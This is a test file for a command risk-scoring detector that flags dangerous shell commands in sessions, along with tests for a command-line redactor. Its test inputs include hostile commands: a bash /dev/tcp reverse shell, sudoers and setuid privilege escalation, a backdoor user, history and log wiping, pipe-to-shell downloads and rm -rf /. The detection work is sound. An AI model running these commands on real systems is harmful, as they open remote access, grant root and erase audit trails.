import { describe, expect, it } from 'vitest';
import { redactCommand } from '../../../controller/sessions/text/redact-command';
import { compileRiskRules, scoreCommand } from '../../../controller/sessions/text/risk-rules';
import { parseRiskRules } from '../../../controller/sessions/text/risk-rules-setting';

const rules = compileRiskRules();
const matched = (command: string) => scoreCommand(0, command, rules).reasons.map((r) => r.rule);

describe('command risk rules', () => {
  it.each([
    ['sudo -i', ['privilege.sudo']],
    ['su - root', ['privilege.su']],
    ['chmod u+s /bin/bash', ['privilege.setuid']],
    ['sudo chmod 4755 /tmp/sh', ['privilege.sudo', 'privilege.setuid']],
    ['usermod -aG sudo mallory', ['privilege.admin-group']],
    ['echo "mallory ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', ['privilege.sudoers']],
    ['unset HISTFILE', ['history.off']],
    ['export HISTFILE=/dev/null', ['history.off']],
    ['history -c', ['history.clear']],
    ['rm ~/.bash_history', ['history.remove']],
    ['cat /dev/null > ~/.bash_history', ['history.remove']],
    ['curl -fsSL https://get.example.com | sh', ['download.pipe-to-shell']],
    ['wget -O- http://x.example/i.sh | sudo bash', ['privilege.sudo', 'download.pipe-to-shell']],
    ['bash <(curl -s https://x.example/i.sh)', ['download.pipe-to-shell']],
    ['systemctl stop rsyslog', ['logging.stop']],
    ['auditctl -e 0', ['logging.stop']],
    ['truncate -s0 /var/log/auth.log', ['logging.wipe']],
    ['echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys', ['ssh.authorized-keys']],
    ['vi /etc/ssh/sshd_config', ['ssh.sshd-config']],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', ['shell.reverse']],
    ['rm -rf /', ['destroy.filesystem']],
    ['useradd -m backdoor', ['accounts.change']],
    ['setenforce 0', ['security.disable']],
  ])('scores %s', (command, rulesHit) => {
    expect(matched(command)).toEqual(rulesHit);
  });

  it.each([
    'ls -la',
    'cat ~/.ssh/authorized_keys',
    'grep PermitRootLogin /etc/ssh/sshd_config',
    'history | tail',
    'echo sudoku issue resume',
    'curl -o install.sh https://get.example.com',
    'rm -rf ./build',
    'journalctl -u nginx',
    'chmod 755 deploy.sh',
  ])('leaves %s at 0', (command) => {
    expect(scoreCommand(3, command, rules)).toEqual({ seq: 3, score: 0, reasons: [] });
  });

  it('adds the scores of the rules a command matches, up to 100', () => {
    expect(scoreCommand(0, 'sudo chmod u+s /bin/bash', rules).score).toBe(100);
    expect(scoreCommand(0, 'sudo ls', rules)).toEqual({
      seq: 0,
      score: 20,
      reasons: [{ rule: 'privilege.sudo', score: 20, reason: expect.stringMatching(/sudo/) }],
    });
  });

  it('takes configured rules beside the defaults; a default id replaces it, score 0 turns it off', () => {
    const configured = parseRiskRules(
      JSON.stringify([
        {
          id: 'site.kubectl-delete',
          pattern: 'kubectl\\s+delete',
          score: 75,
          reason: 'deletes k8s objects',
        },
        { id: 'privilege.sudo', pattern: 'sudo', score: 0, reason: 'off' },
      ]),
      'commandRiskRules',
    );
    const mine = compileRiskRules(configured);
    expect(scoreCommand(0, 'sudo kubectl delete ns prod', mine)).toMatchObject({
      score: 75,
      reasons: [{ rule: 'site.kubectl-delete' }],
    });
  });

  it('refuses a rule setting it cannot use, naming the rule and the field', () => {
    const bad = (rules: unknown) => () => parseRiskRules(JSON.stringify(rules), 'commandRiskRules');
    expect(bad([{ id: 'x', pattern: '(', score: 5, reason: 'r' }])).toThrow(
      /commandRiskRules\[0\]\.pattern.*a valid regular expression/,
    );
    expect(bad([{ id: 'x', pattern: 'a', score: 101, reason: 'r' }])).toThrow(
      /commandRiskRules\[0\]\.score.*0 to 100/,
    );
    expect(bad([{ id: 'Bad Id', pattern: 'a', score: 1, reason: 'r' }])).toThrow(/\[0\]\.id/);
    expect(bad([{ id: 'x', pattern: 'a', score: 1, reason: '' }])).toThrow(/\[0\]\.reason/);
    expect(() => parseRiskRules('{', 'commandRiskRules')).toThrow(/JSON array of rules/);
  });
});

describe('redacting a command line for alerts', () => {
  it.each([
    ['mysql -uroot -pS3cret db', 'mysql -uroot -p*** db'],
    ['curl --password=hunter2 https://x', 'curl --password=*** https://x'],
    ['PGPASSWORD=abc psql', 'PGPASSWORD=*** psql'],
    [
      'git clone https://bob:tok3n@git.example/x.git',
      'git clone https://bob:***@git.example/x.git',
    ],
    ["curl -H 'Authorization: Bearer abc.def' x", "curl -H 'Authorization: Bearer *** x"],
    ['ls -la', 'ls -la'],
  ])('%s', (command, shown) => {
    expect(redactCommand(command)).toBe(shown);
  });
});
